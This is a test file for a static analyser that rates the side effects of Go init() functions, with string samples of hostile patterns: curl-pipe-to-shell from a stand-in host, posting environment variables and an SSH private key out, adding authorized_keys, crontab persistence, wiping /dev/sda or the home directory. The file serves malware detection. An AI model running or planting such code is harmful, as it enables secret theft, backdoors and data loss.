import { describe, expect, test } from '../../kit.ts';
import { examine } from './modules.ts';

// The samples are inert: they are never compiled or run, and name no real host.

/** The weight and the sentence of the gravest effect of one file. */
function told(code: string, imports: readonly string[]): readonly [string | undefined, string | undefined] {
  const text = `package host\n\n${imports.map((path) => `import "${path}"\n`).join('')}\n${code}\n`;
  const [effect] = examine({ 'host.go': text }).effects;
  return [effect?.weight, effect?.sentence];
}

const SHELL = 'init starts a process (exec.Command)';

const GRAVE: readonly (readonly [string, string, readonly string[], string])[] = [
  [
    'a shell command that is put together where nobody follows',
    'func init() { exec.Command("sh", "-c", other.Text()).Run() }',
    ['os/exec', 'example.org/other'],
    `${SHELL} with a shell command that the source does not show.`,
  ],
  [
    'a shell that runs what a file holds',
    'func init() { b, _ := os.ReadFile("testdata/setup.golden"); exec.Command("bash", "-c", string(b)).Run() }',
    ['os', 'os/exec'],
    `${SHELL} with a shell command that the source does not show.`,
  ],
  [
    'a disk that is erased',
    'func init() { exec.Command("/bin/sh", "-c", "dd if=/dev/zero of=/dev/sda bs=1M").Run() }',
    ['os/exec'],
    `${SHELL} and erases a disk or all that the user has.`,
  ],
  [
    'a command that is started every hour',
    'func init() { exec.Command("sh", "-c", "echo @hourly /tmp/x | crontab -").Run() }',
    ['os/exec'],
    `${SHELL} to be started again later.`,
  ],
  [
    'a program that was written first',
    'func init() { p := os.TempDir() + "/cache-tool"; os.WriteFile(p, data, 0o755); exec.Command(p).Start() }\nvar data []byte',
    ['os', 'os/exec'],
    `${SHELL} on import of a file that it wrote.`,
  ],
  [
    'a program in a file that was made first',
    'func init() { f, _ := os.CreateTemp("", "x"); f.Write(data); exec.Command(f.Name()).Start() }\nvar data []byte',
    ['os', 'os/exec'],
    `${SHELL} on import of a file that it wrote.`,
  ],
  [
    'a tool that fetches what it runs',
    'func init() { exec.Command("go", "run", "drop.example.invalid/tool@latest").Run() }',
    ['os/exec'],
    `${SHELL} that fetches something.`,
  ],
  [
    'a shell that is typed into',
    'func init() { c := exec.Command("sh"); w, _ := c.StdinPipe(); c.Start(); io.WriteString(w, "curl -s http://drop.example.invalid/a | sh\\n") }',
    ['io', 'os/exec'],
    `${SHELL} that fetches something.`,
  ],
  [
    'the environment in the body of a request',
    'func init() { http.Post("http://drop.example.invalid/", "text/plain", strings.NewReader(strings.Join(os.Environ(), ","))) }',
    ['net/http', 'os', 'strings'],
    'init opens a connection (http.Post) and hands it secrets of the user.',
  ],
  [
    'the environment over a connection',
    'func init() { c, err := net.Dial("udp", "drop.example.invalid:53"); if err == nil { fmt.Fprint(c, os.Environ()) } }',
    ['fmt', 'net', 'os'],
    'init opens a connection (net.Dial) and hands it secrets of the user.',
  ],
  [
    'a private key',
    'func init() { k, _ := os.ReadFile(filepath.Join(home(), ".ssh", "id_ed25519")); http.Post("http://drop.example.invalid/", "", bytes.NewReader(k)) }\nfunc home() string { h, _ := os.UserHomeDir(); return h }',
    ['bytes', 'net/http', 'os', 'path/filepath'],
    'init opens a connection (http.Post) and hands it secrets of the user.',
  ],
  [
    'a key that lets somebody in',
    'func init() { h, _ := os.UserHomeDir(); f, _ := os.OpenFile(h+"/.ssh/authorized_keys", os.O_APPEND|os.O_WRONLY, 0o600); f.WriteString("ssh-ed25519 A") }',
    ['os'],
    'init writes files (os.OpenFile) to be started again later.',
  ],
  [
    'a home that is erased',
    'func init() { if h, err := os.UserHomeDir(); err == nil { os.RemoveAll(h) } }',
    ['os'],
    'init writes files (os.RemoveAll) and erases a disk or all that the user has.',
  ],
  [
    'code that was fetched',
    'func init() { r, _ := http.Get("http://drop.example.invalid/a.so"); f, _ := os.Create("/tmp/a.so"); io.Copy(f, r.Body); plugin.Open("/tmp/a.so") }',
    ['io', 'net/http', 'os', 'plugin'],
    'init loads code (plugin.Open) on import of what it fetched.',
  ],
  [
    'a handler that runs what it is sent',
    'func init() { http.HandleFunc("/status", serve) }\nfunc serve(w http.ResponseWriter, r *http.Request) { exec.Command("sh", "-c", r.FormValue("q")).Run() }',
    ['net/http', 'os/exec'],
    `${SHELL} on import of what it fetched, by way of serve.`,
  ],
  [
    'the C library',
    'func init() { C.system(C.CString("curl http://drop.example.invalid/a | sh")) }',
    ['C'],
    'init starts a process (C.system) that fetches something.',
  ],
  [
    'reflection by name',
    'func init() { f := reflect.ValueOf(exec.Command); r := f.Call([]reflect.Value{reflect.ValueOf("sh"), reflect.ValueOf("-c"), reflect.ValueOf("curl http://drop.example.invalid/a")}); r[0].MethodByName("Start").Call(nil) }',
    ['os/exec', 'reflect'],
    `${SHELL} that fetches something.`,
  ],
];

describe('what is grave though nothing is hidden', () => {
  test.each(GRAVE)('%s', (_, code, imports, sentence) => {
    expect(told(code, imports)).toEqual(['grave', sentence]);
  });
});

const HONEST: readonly (readonly [string, string, readonly string[], string | undefined])[] = [
  [
    'a shell command that is written',
    'func init() { exec.Command("sh", "-c", "uname -r").Run() }',
    ['os/exec'],
    'telling',
  ],
  [
    'a shell command of one word',
    'func init() { exec.Command("sh", "-c", "uptime").Run() }',
    ['os/exec'],
    'telling',
  ],
  [
    'a command that the user sets',
    'func init() { exec.Command("sh", "-c", os.Getenv("EDITOR")).Run() }',
    ['os', 'os/exec'],
    'telling',
  ],
  [
    'a command with a name that is handed on',
    'func has(tool string) bool { return exec.Command("sh", "-c", "command -v "+tool).Run() == nil }\nvar ok = has("git")',
    ['os/exec'],
    'telling',
  ],
  [
    'a folder of its own that is erased by a shell',
    'func init() { exec.Command("sh", "-c", "rm -rf /tmp/host-cache").Run() }',
    ['os/exec'],
    'telling',
  ],
  [
    'a disk that is asked for its size',
    'func init() { exec.Command("sh", "-c", "blockdev --getsize64 /dev/sda").Run() }',
    ['os/exec'],
    'telling',
  ],
  [
    'a tool of the module itself',
    'func init() { exec.Command("go", "run", "./internal/gen").Run() }',
    ['os/exec'],
    'telling',
  ],
  [
    'a file that is written beside a program that is started',
    'func init() { os.WriteFile("/tmp/host.pid", nil, 0o600); exec.Command("git", "version").Run() }',
    ['os', 'os/exec'],
    'telling',
  ],
  [
    'a program that is given the environment',
    'func init() { c := exec.Command("git", "version"); c.Env = os.Environ(); c.Run() }',
    ['os', 'os/exec'],
    'telling',
  ],
  [
    'a connection that one setting names',
    'func init() { net.Dial("udp", os.Getenv("STATSD")) }',
    ['net', 'os'],
    'telling',
  ],
  [
    'a folder inside the home that is erased',
    'func init() { h, _ := os.UserHomeDir(); os.RemoveAll(h + "/.cache/host") }',
    ['os'],
    'minor',
  ],
  [
    'a handler that answers and starts nothing',
    'func init() { http.HandleFunc("/metrics", serve) }\nfunc serve(w http.ResponseWriter, r *http.Request) { w.Write(nil) }',
    ['net/http'],
    undefined,
  ],
  [
    'a handler that starts a program of its own',
    'func init() { http.HandleFunc("/version", serve) }\nfunc serve(w http.ResponseWriter, _ *http.Request) { exec.Command("git", "version").Run() }',
    ['net/http', 'os/exec'],
    undefined,
  ],
];

describe('what looks like it', () => {
  test.each(HONEST)('%s', (_, code, imports, weight) => {
    expect(told(code, imports)[0]).toBe(weight);
  });
});

describe('a client that connects on import', () => {
  /** A client whose address comes from `count` functions, one of which decodes. */
  function client(count: number): string {
    const wide = Array.from({ length: count }, (_, i) => `g${i}(s)`).join(' + ');
    const ends = Array.from({ length: count }, (_, i) => `func g${i}(s string) string { return s }\n`);
    return `func init() { net.Dial("tcp", f("a.example.invalid:80")) }\nfunc f(s string) string { b, _ := hex.DecodeString(s); return string(b) + ${wide} }\n${ends.join('')}`;
  }

  test('is grave while little flows into the address, and telling when most of its code does', () => {
    expect(told(client(3), ['encoding/hex', 'net'])[0]).toBe('grave');
    expect(told(client(60), ['encoding/hex', 'net'])[0]).toBe('telling');
  });
});
